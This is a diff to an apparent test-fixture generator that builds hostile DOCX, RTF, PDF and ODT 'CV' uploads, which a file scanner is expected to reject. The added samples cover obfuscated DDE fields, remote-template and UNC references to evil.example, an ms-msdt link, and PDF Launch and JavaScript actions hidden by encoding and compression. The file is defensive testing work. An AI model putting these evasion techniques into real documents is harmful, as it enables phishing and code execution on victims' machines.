@@ -1,6 +1,6 @@
-// Two hundred files that are not what they say, or more than they say. Each with the code it must be
+// Some 300 files that are not what they say, or more than they say. Each with the code it must be
 // refused by. Made here, so that no scanner of anybody's takes this repository for what it tests.
-import { deflateRawSync } from "node:zlib";
+import { deflateRawSync, deflateSync } from "node:zlib";
 
 const text = (s) => Buffer.from(s, "latin1");
 const PDF = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n";
@@ -178,6 +178,32 @@ export function hostile() {
   }
   for (const filler of [0, 70_000, 400_000]) add("A15", "cv.pdf", `${PDF}${"x".repeat(filler)}trailer<</Encrypt 9 0 R>>${"x".repeat(filler)}\n%%EOF`, "file_encrypted");
   for (const word of ["objdata", "objupdate", "objautlink"]) for (const filler of [0, 400_000]) add("A15", "cv.rtf", `{\\rtf1 ${"x".repeat(filler)}{\\object\\${word} 0105}${"x".repeat(filler)}}`, "file_unsafe");
+
+  // A44: words that are hidden by how they are written.
+  const field = (runs) => `<w:hdr><w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:instrText>${run}</w:instrText>`).join("")}<w:fldChar w:fldCharType="end"/></w:hdr>`;
+  for (const runs of [["D", "DEAUTO excel"], ["ddeauto excel"], ["&#68;DE excel"], ["&#x44;D", "E excel"], ["<![CDATA[DDE excel]]>"], ['INCLUDEPICTURE "\\\\evil.example\\a.png"'], ['INCLUDETEXT "https://evil.example/a.docx"']]) {
+    for (const part of ["header1", "footnotes", "endnotes", "comments"]) add("A44", "cv.docx", docx([[`word/${part}.xml`, field(runs)]]), "file_unsafe");
+  }
+  add("A44", "cv.docx", docx([["word/footer1.xml", '<w:ftr><w:fldSimple w:instr="DDE excel"/></w:ftr>']]), "file_unsafe");
+  const template = relation("attachedTemplate");
+  const written = [Buffer.from(`\ufeff${template}`, "utf16le"), Buffer.from(`\ufeff${template}`, "utf16le").swap16(), template.replace("attachedTemplate", "attachedTemplat&#101;"), template.replace("https", "&#104;ttps"), template.replace("https:", "ht&#9;tps:")];
+  for (const xml of written) add("A44", "cv.docx", docx([["word/_rels/settings.xml.rels", xml]]), "file_unsafe");
+  add("A44", "cv.docx", docx([["WORD/_RELS/SETTINGS.XML.RELS", template]]), "file_unsafe");
+  for (const target of ["\\\\evil.example\\s\\t.dotm", "file://evil.example/t.dotm", "ftp://evil.example/t.dotm", "mhtml:http://evil.example/t", "//evil.example/t.dotm"]) add("A44", "cv.docx", docx([["word/_rels/settings.xml.rels", template.replace("https://evil.example/x.dotm", target)]]), "file_unsafe");
+  add("A44", "cv.docx", docx([["word/_rels/aaa.xml.rels", `<r>${"y".repeat(17_000_000)}</r>`], ["word/_rels/settings.xml.rels", template]]), "file_unsafe");
+  add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("aFChunk")]]), "file_unsafe");
+  add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("aFChunk").replace("https://evil.example/x.dotm", "a.dat").replace("External", "Internal")], ["word/a.dat", "{\\rtf1}"]]), "file_unsafe");
+  add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("hyperlink").replace("https://evil.example/x.dotm", "ms-msdt:/id x")]]), "file_unsafe");
+  for (const name of ["a.docm", "a.hta", "a.scr", "a.ps1", "a.msi", "a.iso", "a.jse", "a.cmd", "a.LNK"]) add("A44", "cv.docx", docx([[`word/embeddings/${name}`, "x"]]), "file_unsafe");
+  for (const inside of ["{\\*\\template http://evil.example/t.dotm}", "{\\field{\\*\\fldinst {\\b D}{\\i DE}AUTO excel}}", "{\\field{\\*\\fldinst \\'44\\'44E excel}}", "{\\field{\\*\\fldinst \\u68?DE excel}}", "{\\object\\objhtml x}", "{\\*\\datastore 0105000002000000080000005061636b61676500}"]) add("A44", "cv.rtf", `{\\rtf1 ${inside}}`, "file_unsafe");
+  const scripts = ["/S%x\n/Launch/F(cmd.exe)", `/S${" ".repeat(60)}/L#61unch`, "/JS%x\n(app.alert(1))", "/#4a#53<6170702e616c657274283129>", "/JS 9 0 R"];
+  for (const script of scripts) add("A44", "cv.pdf", `${PDF}3 0 obj<<${script}>>endobj\n%%EOF`, "file_unsafe");
+  const stream = (inside, filter = "/FlateDecode") => Buffer.concat([text(`${PDF}1 0 obj<</Type/ObjStm/N 1/First 4/Filter${filter}>>stream\n`), deflateSync(text(`2 0 ${inside}`)), text("\nendstream endobj\n%%EOF")]);
+  for (const inside of scripts) add("A44", "cv.pdf", stream(`<<${inside}>>`), "file_unsafe");
+  add("A44", "cv.pdf", stream("<<>>", "[/ASCII85Decode/FlateDecode]"), "file_unsafe");
+  add("A44", "cv.pdf", stream(" ".repeat(7_000_000)), "file_unsafe");
+  for (const inside of ['<draw:object xlink:href="http://evil.example/x"/>', '<text:section-source xlink:href="http://evil.example/x"/>', '<draw:image xlink:href="//evil.example/me.png"/>', "<text:dde-connection-decl/>"]) add("A44", "cv.odt", odt([], `<office:text>${inside}</office:text>`), "file_unsafe");
+  add("A44", "cv.odt", odt([["Scripts/python/a.py", "x"]]), "file_macros");
 
   // A16: pictures of more pixels than memory holds.
   for (const [width, height] of [[50_000, 50_000], [65_535, 65_535], [0x7fffffff, 2], [0xffffffff, 0xffffffff]]) add("A16", "me.png", png(width, height), "file_pixels", "photo");
